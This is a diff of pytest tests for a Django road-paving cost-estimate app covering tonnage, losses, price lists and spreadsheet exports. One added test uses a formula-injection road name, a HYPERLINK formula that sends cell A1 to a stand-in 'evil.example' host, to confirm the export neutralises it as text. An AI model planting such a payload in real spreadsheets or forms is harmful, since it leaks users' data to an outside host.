@@ -8,6 +8,7 @@ import math
 from decimal import ROUND_HALF_UP, Decimal
 
 import pytest
+from django.contrib.auth import get_user_model
 from django.contrib.gis.geos import LineString
 from openpyxl import load_workbook
 from shapely.geometry import Polygon, shape
@@ -79,7 +80,14 @@ def test_1km_by_7m_line_gives_7000_m2_and_layer_volumes_and_masses(client, code)
         volume = 7000.0 * spec["thickness_m"]
         assert got["volume_m3"] == pytest.approx(volume, rel=1e-3)
         assert got["mass_t"] == pytest.approx(volume * spec["density_t_m3"], rel=1e-3)
-        assert got["mass_with_loss_t"] == pytest.approx(volume * spec["density_t_m3"] * spec["loss_factor"], rel=1e-3)
+        mass = volume * spec["density_t_m3"]
+        if spec["bitumen_share"]:  # SPEC §6: aggregate share × its loss, bitumen share × its loss
+            b = spec["bitumen_share"]
+            expected = mass * (1 - b) * spec["aggregate_loss_factor"] + mass * b * spec["bitumen_loss_factor"]
+            assert spec["loss_factor"] == pytest.approx((1 - b) * spec["aggregate_loss_factor"] + b * spec["bitumen_loss_factor"])
+        else:
+            expected = mass * spec["loss_factor"]
+        assert got["mass_with_loss_t"] == pytest.approx(expected, rel=1e-3)
     for got, spec in zip(out["coats"], tpl["coats"]):
         assert got["litres"] == pytest.approx(7000.0 * spec["rate_l_m2"], rel=1e-3)
     if code == "FFF1":  # DOMAIN §2 worked example: 1 km × 7 m of AC-WC 40 mm at 2.32 t/m³ = 649.6 t
@@ -159,21 +167,60 @@ def test_cost_lines_and_totals_follow_the_price_list(client):
     out = r.json()
     pl = PriceList.objects.get(pk=out["assumptions"]["price_list"]["id"])
     prices = {p.code: p.price for p in UnitPrice.objects.filter(price_list=pl)}
-    subtotal = Decimal("0")
+    general = {g.code: g for g in pl.general_items.all()}
+    physical = Decimal("0")
     for item in out["items"]:
+        if item["code"] in general:
+            continue
         assert Decimal(str(item["unit_price"])) == prices[item["code"]]
         amount = _money(Decimal(str(item["quantity"])) * prices[item["code"]])
         assert Decimal(str(item["amount"])) == amount
-        subtotal += amount
-    assert Decimal(str(out["subtotal"])) == subtotal
+        physical += amount
+    # Divisi 1 and SMKK: a percentage of the physical works each (price list data)
+    lines = {i["code"]: i for i in out["items"] if i["code"] in general}
+    assert set(lines) == set(general) and {"1.2", "1.8", "1.21"} <= set(lines)
+    for code, g in general.items():
+        assert g.basis == "percent"
+        assert Decimal(str(lines[code]["amount"])) == _money(physical * g.value / 100) and lines[code]["unit"] == "Ls"
+    subtotal = physical + sum(Decimal(str(v["amount"])) for v in lines.values())
+    assert Decimal(str(out["physical_subtotal"])) == physical and Decimal(str(out["subtotal"])) == subtotal
     overhead = _money(subtotal * pl.overhead_pct / 100)
     tax = _money((subtotal + overhead) * pl.tax_pct / 100)
     assert Decimal(str(out["overhead"])) == overhead and Decimal(str(out["tax"])) == tax
-    assert Decimal(str(out["total"])) == subtotal + overhead + tax
+    unrounded = subtotal + overhead + tax
+    assert Decimal(str(out["total_unrounded"])) == unrounded
+    assert Decimal(str(out["total"])) == (unrounded / 1000).to_integral_value(rounding="ROUND_DOWN") * 1000  # down to Rp 1,000
     assert out["currency"] == "IDR" and out["total_words"].endswith("rupiah")
-    # AC-WC paid by compacted mass: 500 × 6 × 0.04 × 2.32 t
+    # AC-WC paid by the mix with per-component losses: 500 × 6 × 0.04 × 2.32 t × (0.94 × 1.05 + 0.06 × 1.03)
     ac_wc = next(i for i in out["items"] if i["code"] == "6.3.(5a)")
-    assert ac_wc["unit"] == "t" and float(ac_wc["quantity"]) == pytest.approx(500 * 6 * 0.04 * 2.32, rel=1e-3)
+    assert ac_wc["unit"] == "t" and float(ac_wc["quantity"]) == pytest.approx(round(500 * 6 * 0.04 * 2.32 * 1.0488, 2), abs=0.006)
+
+
+def test_overlay_40_mix_has_separate_aggregate_and_bitumen_losses(client):
+    """SPEC §6 / issue 14: 1 km × 7 m of OVERLAY-40 (AC-WC 40 mm, 2.32 t/m³, bitumen 6.0 % of the mix).
+    Hand calculation: mix 7000 × 0.04 × 2.32 = 649.6 t (DOMAIN §2 example); aggregate 649.6 × 0.94 = 610.624 t
+    × 1.05 = 641.1552 t; bitumen 649.6 × 0.06 = 38.976 t × 1.03 = 40.14528 t; mix with losses 681.30048 t
+    (one factor 1.03 on the whole mix gave 669.088 t). Tack coat on the old surface at 0.35 L/m² → 2,450 L."""
+    out = estimate(client, geometry=geodesic_line(*TANGERANG, 1000.0), width_m=7, template="OVERLAY-40").json()
+    ac = out["layers"][0]
+    assert ac["mass_t"] == pytest.approx(649.6, rel=1e-3)
+    assert ac["aggregate_t"] == pytest.approx(610.624, rel=1e-3) and ac["aggregate_with_loss_t"] == pytest.approx(641.1552, rel=1e-3)
+    assert ac["bitumen_t"] == pytest.approx(38.976, rel=1e-3) and ac["bitumen_with_loss_t"] == pytest.approx(40.14528, rel=1e-3)
+    assert ac["mass_with_loss_t"] == pytest.approx(681.30048, rel=1e-3)
+    line = next(i for i in out["items"] if i["code"] == "6.3.(5a)")
+    assert float(line["quantity"]) == pytest.approx(681.30, abs=0.7)  # the RAB line is the tonnage with loss
+    assert float(line["quantity"]) == round(ac["mass_with_loss_t"], 2)
+    coat = out["coats"][0]
+    assert coat["on_surface"] == "old_asphalt" and coat["litres"] == pytest.approx(7000 * 0.35, rel=1e-3)
+
+
+def test_tack_coat_rate_follows_the_surface_it_goes_on(client):
+    t = templates(client)
+    rates = {(code, c["on_surface"]): c["rate_l_m2"] for code, tpl in t.items() for c in tpl["coats"]}
+    # Spek 2010 R3 Tbl 6.1.4(1) (DOMAIN §2): new surface emulsion 0.20; porous/old 0.20–1.00
+    assert rates[("FFF1", "new_asphalt")] == 0.20
+    assert 0.20 < rates[("OVERLAY-40", "old_asphalt")] <= 1.00
+    assert 0.20 < rates[("REHAB-100", "milled")] <= 1.00
 
 
 def test_price_list_including_overhead_sets_overhead_to_zero(client):
@@ -183,7 +230,10 @@ def test_price_list_including_overhead_sets_overhead_to_zero(client):
     assert out["tax"] == pytest.approx(out["subtotal"] * 0.11, abs=0.01)
 
 
-def test_xlsx_opens_and_its_totals_equal_the_json(client):
+def test_xlsx_opens_and_its_formulas_give_the_json(client):
+    from tests.estimates.xlsx_eval import Evaluator
+
+    client.force_login(get_user_model().objects.create_user("analis-ekspor"))  # exports need login (SPEC §4)
     body = {"geometry": geodesic_line(*TANGERANG, 750.0, n=3), "width_m": 7, "template": "RIGID-200"}
     js = estimate(client, **body).json()
     r = estimate(client, format="xlsx", **body)
@@ -193,22 +243,33 @@ def test_xlsx_opens_and_its_totals_equal_the_json(client):
     wb = load_workbook(io.BytesIO(r.content))
     assert {"RAB", "Kuantitas", "Asumsi"} <= set(wb.sheetnames)
     ws = wb["RAB"]
-    rows = [list(row) for row in ws.iter_rows(values_only=True)]
-    items = [row for row in rows if isinstance(row[0], int)]
-    assert [row[1] for row in items] == [i["code"] for i in js["items"]]
-    for row, item in zip(items, js["items"]):
-        assert row[4] == pytest.approx(item["quantity"]) and row[5] == item["unit_price"] and row[6] == item["amount"]
-    labelled = {row[2]: row[6] for row in rows if row[2] and row[6] is not None and not isinstance(row[0], int)}
-    assert labelled["TOTAL"] == js["total"]
-    assert labelled["Jumlah (subtotal)"] == js["subtotal"] == pytest.approx(sum(row[6] for row in items))
-    assert any(str(k).startswith("PPN") and v == js["tax"] for k, v in labelled.items())
-    subtotals = [row[6] for row in rows if str(row[2] or "").startswith("Sub jumlah Divisi")]
-    assert len(subtotals) == 2 and sum(subtotals) == pytest.approx(js["subtotal"])  # rigid: divisions 5 and 7
-    assert any(row[1] == "Terbilang:" and row[2].lower() == js["total_words"] for row in rows)
-    assert any("Disetujui" in str(c) for row in rows for c in row if c)
+    ev = Evaluator(wb)
+    rows = [(i, list(row)) for i, row in enumerate(ws.iter_rows(values_only=True), 1)]
+    items = [(i, row) for i, row in rows if isinstance(row[0], int)]
+    assert [row[1] for _, row in items] == [i["code"] for i in js["items"]]
+    for (i, row), item in zip(items, js["items"]):
+        assert row[6] == f"=ROUND(E{i}*F{i},2)"  # quantity × price is a formula
+        assert row[4] == pytest.approx(item["quantity"]) and ev.value("RAB", f"F{i}") == pytest.approx(item["unit_price"], abs=0.001)
+        assert ev.value("RAB", f"G{i}") == pytest.approx(item["amount"], abs=0.001)
+        assert ws.cell(i, 7).number_format.startswith("[$-421]")  # Indonesian separators
+    labelled = {row[2]: i for i, row in rows if row[2] and row[6] is not None and not isinstance(row[0], int)}
+    total_row = next(i for label, i in labelled.items() if str(label).startswith("TOTAL"))
+    assert ev.value("RAB", f"G{total_row}") == pytest.approx(js["total"], abs=0.001)
+    assert ev.value("RAB", f"G{labelled['Jumlah (subtotal)']}") == pytest.approx(js["subtotal"], abs=0.001)
+    assert any(str(k).startswith("PPN") and ev.value("RAB", f"G{i}") == pytest.approx(js["tax"], abs=0.001) for k, i in labelled.items())
+    subtotals = [i for i, row in rows if str(row[2] or "").startswith("Sub jumlah Divisi")]
+    assert len(subtotals) == 3  # rigid: divisions 1 (general), 5 and 7
+    assert any(row[1] == "Terbilang:" and row[2].lower() == js["total_words"] for _, row in rows)
+    assert any("Disetujui" in str(c) for _, row in rows for c in row if c)
+    text = " ".join(str(c) for _, row in rows for c in row if c)
+    assert "Lokasi" in text and "PERHATIAN" in text  # drawn in Tangerang without a kabupaten/kota area: region unknown, flagged
+    asumsi = {row[0]: row[1] for row in wb["Asumsi"].iter_rows(values_only=True) if row and row[0]}
+    assert "Daftar harga sesuai wilayah lokasi" in asumsi and "Pembulatan total" in asumsi
+    assert not any(str(k).startswith(("template.", "price_list.", "overhead_pct")) for k in asumsi)  # no developer keys
 
 
 def test_csv_and_pdf_exports(client):
+    client.force_login(get_user_model().objects.create_user("analis-ekspor"))  # exports need login (SPEC §4)
     body = {"geometry": geodesic_line(*TANGERANG, 300.0), "width_m": 6, "template": "FFF1"}
     js = estimate(client, **body).json()
     r = estimate(client, format="csv", **body)
@@ -267,6 +328,7 @@ def test_bad_input_gets_a_clear_4xx_and_writes_nothing(client):
         data = r.json()
         assert field in data["errors"], (field, data)
         assert words.lower() in data["detail"].lower(), (words, data)
+    client.force_login(get_user_model().objects.create_user("analis-ekspor"))  # exports need login (SPEC §4)
     r = client.post("/api/estimates/?format=xlsx", {"geometry": bowtie, "template": "FFF1"}, content_type="application/json")
     assert r.status_code == 400 and r["Content-Type"].startswith("application/json")
     assert (RoadSegment.objects.count(), PriceList.objects.count(), UnitPrice.objects.count()) == before
@@ -294,3 +356,19 @@ def test_overhead_above_15_percent_is_refused_by_the_model():
     with pytest.raises(ValidationError):
         pl.full_clean()
     assert math.isclose(float(PriceList.objects.get(pk=pl.pk).overhead_pct), 15.0)
+
+
+def test_rab_keeps_its_own_formulas_and_neutralises_formula_like_names(client):
+    """Issue 12 × 14: a road named like a formula is text in the RAB (leading '), while the RAB's arithmetic stays live."""
+    from estimates.exports import OWN_FORMULA
+
+    client.force_login(get_user_model().objects.create_user("analis-rab"))
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
+    road = _road(geodesic_line(*TANGERANG, 200.0)["coordinates"], road_class="local", name=evil)
+    r = estimate(client, format="xlsx", road_ids=[road.pk], template="OVERLAY-40")
+    assert r.status_code == 200, r.content
+    wb = load_workbook(io.BytesIO(r.content))
+    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
+    formulas = [c.value for c in cells if c.data_type == "f"]
+    assert formulas and all(OWN_FORMULA.match(f) for f in formulas) and not any("HYPERLINK" in f for f in formulas)
+    assert any(isinstance(c.value, str) and "HYPERLINK" in c.value and c.data_type == "s" for c in cells)
